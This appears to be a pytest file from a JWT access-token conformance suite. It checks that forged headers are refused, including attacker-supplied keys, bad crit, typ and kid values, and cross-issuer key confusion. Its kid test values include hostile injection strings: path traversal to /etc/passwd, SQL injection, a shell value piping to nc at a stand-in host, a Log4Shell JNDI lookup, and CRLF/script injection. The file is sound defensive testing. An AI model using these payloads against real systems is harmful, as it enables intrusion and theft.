"""The protected header: keys and places it offers, extensions it asks for, kinds it declares, key ids (RFC 8725 §3)."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from starlette.types import Receive, Scope, Send

from conformance.issuer import ABSENT, Issuer
from conformance.issuer.signing import segment
from tests.attacks.battery import (
    COOLDOWN,
    MALFORMED_REQUEST,
    Forge,
    Listener,
    Verdict,
    cognito,
    header,
    honest,
    honest_claims,
    present,
    standing,
    stranger,
    withstands,
)
from tests.gated import CLIENT, RESOURCE, SCOPES, gated, keys, plain_issuer

CERTIFICATE = "MIIBszCCAVmgAwIBAgIUZm9yZ2VkIGJ5IHRoZSBhdHRhY2tlciBoaW1zZWxmMAoGCCqGSM49BAMCMA8xDTALBgNVBAMMBGV2aWw="


def offers(place: str) -> dict[str, dict[str, Any]]:
    """What a header may offer to verify itself with; `place` is where the attacker serves it."""
    jwk = dict(stranger().as_dict(private=False))
    return {
        "jku": {"jku": f"{place}/jwks"},
        "jwk": {"jwk": jwk},
        "jwk as the whole key set": {"jwk": {"keys": [jwk]}},
        "x5u": {"x5u": f"{place}/chain.pem"},
        "x5c": {"x5c": [CERTIFICATE]},
        "x5t": {"x5t": "Zm9yZ2Vk", "x5t#S256": "Zm9yZ2Vk"},
        "jku and jwk": {"jku": f"{place}/jwks", "jwk": jwk},
        "iss": {"iss": place},
    }


KIDS: dict[str, tuple[Callable[[Issuer], Any], str]] = {
    "the issuer's key id": (lambda issuer: issuer.keys.access.kid, "bad_signature"),
    "its own key id": (lambda _: stranger().kid, "unknown_key"),
    "no key id": (lambda _: ABSENT, "unknown_key"),
}


@pytest.mark.parametrize("kid", KIDS)
@pytest.mark.parametrize("offer", list(offers("")))
async def test_key_that_the_token_brings_along_is_neither_trusted_nor_fetched(
    offer: str, kid: str, caplog: pytest.LogCaptureFixture
) -> None:
    listener = Listener()
    named, reason = KIDS[kid]

    def forge(issuer: Issuer) -> str:
        return honest(issuer, key=stranger(), header={"kid": named(issuer), **offers(listener.url)[offer]})

    async with standing() as door:
        await withstands(door, forge, reason, lambda: caplog.text)
        door.issuer.clock.move(COOLDOWN + 1)
        await withstands(door, forge, reason, lambda: caplog.text)
    assert not listener.close(), "somebody connected to the place that the token names"


CRITICAL: list[tuple[Any, dict[str, Any]]] = [
    ([], {}),
    (["exp"], {}),
    (["exp"], {"exp": 1}),
    (["b64"], {}),
    (["b64"], {"b64": False}),
    (["b64"], {"b64": True}),
    (["alg"], {}),
    (["http://evil.test/ext"], {"http://evil.test/ext": 1}),
    (["crit"], {}),
    ([""], {}),
    ([5], {}),
    ([None], {}),
    ([["exp"]], {}),
    ("exp", {}),
    ("", {}),
    (5, {}),
    (0, {}),
    (True, {}),
    (False, {}),
    (None, {}),
    ({}, {}),
    ({"exp": 1}, {}),
]

EXTENSIONS = [
    *(
        pytest.param(header(crit=crit, **others), "malformed_token", id=f"crit {crit!r} {' '.join(others)}".strip())
        for crit, others in CRITICAL
    ),
    pytest.param(header(b64=False), "malformed_token", id="b64 false without crit"),
    pytest.param(header(b64=None), "malformed_token", id="b64 null"),
    pytest.param(header(zip="DEF"), "malformed_token", id="zip DEF"),
    pytest.param(header(zip=None), "malformed_token", id="zip null"),
    pytest.param(header(zip=""), "malformed_token", id="zip empty"),
    pytest.param(
        lambda issuer: honest(issuer, header={"cty": "JWT"}, claims=honest(issuer).encode()),
        "malformed_token",
        id="a whole token as payload",
    ),
]

KINDS = [
    *(
        pytest.param(header(typ=typ), "wrong_token_kind", id=f"typ {typ!a}")
        for typ in (
            "JWT",
            "jwt",
            "application/jwt",
            "",
            "at+jwt ",
            " at+jwt",
            "at+jwt;v=1",
            "at+jwt\0",
            "at jwt",
            "at+jwt,JWT",
            "\u0430t+jwt",  # its first letter is Cyrillic
            "text/at+jwt",
            "application/at+jwt+x",
            "rt+jwt",
        )
    ),
    pytest.param(header(typ=ABSENT), "wrong_token_kind", id="no typ"),
    *(
        pytest.param(header(typ=typ), "malformed_token", id=f"typ {typ!r}")
        for typ in (None, 5, True, ["at+jwt"], {"at+jwt": 1})
    ),
]

OTHER_KINDS = (
    "dpop+jwt",
    "oauth-id-jag+jwt",
    "logout+jwt",
    "secevent+jwt",
    "oauth-authz-req+jwt",
    "token-introspection+jwt",
    "client-authentication+jwt",
    "application/dpop+jwt",
    "DPOP+JWT",
    "kb+jwt",
    "id+jwt",
    "JOSE",
)


def kid_rows() -> Iterator[Any]:
    kid: Any
    unknown = {
        "unknown": "no-such-key",
        "empty": "",
        "path": "../../../../etc/passwd",
        "device": "/dev/null",
        "URL": "https://evil.test/jwks",
        "SQL": "' UNION SELECT 'secret' --",
        "shell": "key;id|nc evil.test 1",
        "template": "${jndi:ldap://evil.test/a}",
        "CRLF and quotes": 'x"\r\nSet-Cookie: a=b\r\n\r\n<script>',
        "NUL": "key\0",
        "escape of a terminal": "\x1b[2J\x1b]0;evil\x07",
        "right to left": "\u202eyek",
        "None": "None",
        "of 1,024 characters": "k" * 1024,
    }
    for name, kid in unknown.items():
        yield pytest.param(header(kid=kid), "unknown_key", id=f"kid {name}")
    yield pytest.param(
        lambda issuer: honest(issuer, header={"kid": f"{issuer.keys.access.kid} "}), "unknown_key", id="kid and a blank"
    )
    yield pytest.param(
        lambda issuer: honest(issuer, header={"kid": str(issuer.keys.access.kid).swapcase()}),
        "unknown_key",
        id="kid in another case",
    )
    yield pytest.param(header(kid=None), "unknown_key", id="kid null")
    for kid in (5, 1e400, True, ["a"], {"a": 1}):
        yield pytest.param(header(kid=kid), "malformed_token", id=f"kid {kid!r}")
    yield pytest.param(header(kid="k" * 1025), "malformed_token", id="kid of 1,025 characters")
    yield pytest.param(header(kid="k" * 100_000), "oversized_token", id="kid of 100 KiB")
    yield pytest.param(
        lambda issuer: honest(issuer, header=b'{"alg":"RS256","typ":"at+jwt","kid":"\\ud800"}'),
        "malformed_token",
        id="kid half a surrogate pair",
    )


@pytest.mark.parametrize(("forge", "reason"), [*EXTENSIONS, *KINDS, *kid_rows()])
async def test_token_with_a_damaged_header_is_refused(
    forge: Forge, reason: str, caplog: pytest.LogCaptureFixture
) -> None:
    async with standing() as door:
        await withstands(door, forge, reason, lambda: caplog.text)


@pytest.mark.parametrize("typ", OTHER_KINDS)
async def test_token_of_another_declared_kind_is_refused_whatever_the_issuer(
    typ: str, caplog: pytest.LogCaptureFixture
) -> None:
    async with standing(issuer_settings={"token_type": ""}) as door:
        await withstands(door, header(typ=typ), "wrong_token_kind", lambda: caplog.text)
    async with cognito() as door:
        await withstands(door, header(typ=typ), "wrong_token_kind", lambda: caplog.text)


@pytest.mark.parametrize("typ", ["AT+JWT", "application/at+jwt", "Application/AT+jwt"])
async def test_kind_is_compared_as_media_types_are(typ: str) -> None:
    async with standing() as door:
        assert (await door.post(honest(door.issuer, header={"typ": typ}))).status_code == 200


JSON_FORMS = [
    pytest.param(
        lambda issuer: json.dumps({"protected": "e30", "payload": "e30", "signature": honest(issuer)}),
        MALFORMED_REQUEST,
        id="flattened JSON",
    ),
    pytest.param(
        lambda _: json.dumps({"payload": "e30", "signatures": []}, separators=(",", ":")),
        MALFORMED_REQUEST,
        id="general JSON",
    ),
    pytest.param(
        lambda issuer: json.dumps({"token": honest(issuer)}, separators=(",", ":")),
        "malformed_token",
        id="JSON with the token inside",
    ),
    pytest.param(lambda issuer: f'"{honest(issuer)}"', "malformed_token", id="token in quotes"),
    pytest.param(lambda issuer: f"<{honest(issuer)}>", "malformed_token", id="token in angle brackets"),
    pytest.param(
        lambda _: ".".join([segment(b'{"alg":"RSA-OAEP","enc":"A256GCM"}'), *(segment(b"x" * 9) for _ in "1234")]),
        "malformed_token",
        id="JWE of five parts",
    ),
    pytest.param(
        lambda issuer: issuer.refresh_token("alice", CLIENT, SCOPES, RESOURCE), "malformed_token", id="refresh token"
    ),
]


@pytest.mark.parametrize(("forge", "expected"), JSON_FORMS)
async def test_token_in_another_serialisation_is_refused(
    forge: Forge, expected: str | Verdict, caplog: pytest.LogCaptureFixture
) -> None:
    async with standing() as door:
        await withstands(door, forge, expected, lambda: caplog.text)


async def test_flood_of_unknown_key_ids_costs_one_fetch_per_cooldown() -> None:
    async with standing() as door:
        tokens = [honest(door.issuer, header={"kid": f"unknown-{i}"}) for i in range(200)]

        async def flood() -> set[tuple[int, str]]:
            answers = await asyncio.gather(*(present(door, token) for token in tokens))
            return {(answer.status_code, door.reason) for answer in answers}

        assert await flood() == {(401, "unknown_key")}
        assert door.issuer.key_server.hits == 1
        door.issuer.clock.move(COOLDOWN)
        assert await flood() == {(401, "unknown_key")}
        assert door.issuer.key_server.hits == 2
        assert (await door.post(honest(door.issuer))).status_code == 200


class TwoIssuers:
    """Answers for two issuers, by the host that is asked."""

    def __init__(self, *issuers: Issuer) -> None:
        self.apps = {str(urlsplit(issuer.url).hostname): issuer.app for issuer in issuers}

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        host = dict(scope["headers"])[b"host"].decode()
        await self.apps[host](scope, receive, send)


async def test_key_of_one_issuer_never_verifies_a_token_of_another_though_their_ids_are_equal(
    caplog: pytest.LogCaptureFixture,
) -> None:
    first = plain_issuer()
    second = Issuer.plain("https://second.example", resources=[RESOURCE], keys=keys().copy(), clock=first.clock)
    second.keys.rotate(stranger())
    second.keys.publish({**stranger().as_dict(private=False), "kid": first.keys.access.kid})
    trusted = [{"issuer": issuer.url, "token_type": "at+jwt"} for issuer in (first, second)]

    def forge(issuer: Issuer) -> str:
        """Signed by the second issuer under a name that both publish, claiming the first one."""
        return honest(issuer, key=stranger(), header={"kid": issuer.keys.access.kid})

    async with standing(first, issuers=trusted, network=TwoIssuers(first, second)) as door:
        await withstands(door, forge, "bad_signature", lambda: caplog.text)
        genuine = second.token(None, CLIENT, SCOPES, RESOURCE)
        assert (await present(door, genuine)).status_code == 200
        claimed = second.sign({"alg": "RS256", "typ": "at+jwt", "kid": stranger().kid}, honest_claims(first))
        await withstands(door, lambda _: claimed, "unknown_key", lambda: caplog.text)


async def test_issuer_is_trusted_only_by_the_resources_it_is_listed_for() -> None:
    first = plain_issuer()
    second = Issuer.plain("https://second.example", resources=[RESOURCE], keys=keys().copy(), clock=first.clock)
    trusted = [{"issuer": issuer.url, "token_type": "at+jwt"} for issuer in (first, second)]
    protected = {"issuers": [first.url]}
    async with gated(first, issuers=trusted, resource=protected, network=TwoIssuers(first, second)) as door:
        assert (await door.post(door.token())).status_code == 200
        assert (await present(door, second.token(None, CLIENT, SCOPES, RESOURCE))).status_code == 401
        assert door.reason == "unknown_issuer"
